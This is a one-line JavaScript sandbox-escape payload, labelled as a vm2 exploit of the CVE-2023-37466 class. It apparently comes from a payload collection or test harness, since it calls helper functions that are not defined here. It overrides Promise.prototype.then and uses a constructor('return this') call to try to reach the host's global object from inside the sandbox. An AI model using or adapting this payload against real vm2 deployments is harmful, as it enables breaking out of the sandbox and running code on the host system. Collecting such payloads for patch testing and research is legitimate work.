// vm2 CVE-2023-37466 class: overriding Promise.prototype.then (runAsync)
try { Promise.prototype.then = function (a, b) { pwn(a); pwn(b); try { pwn(a.constructor('return this')()) } catch (e) {} } } catch (e) {} fetchIt(1); fetchIt(0).then(() => 1, () => 1)
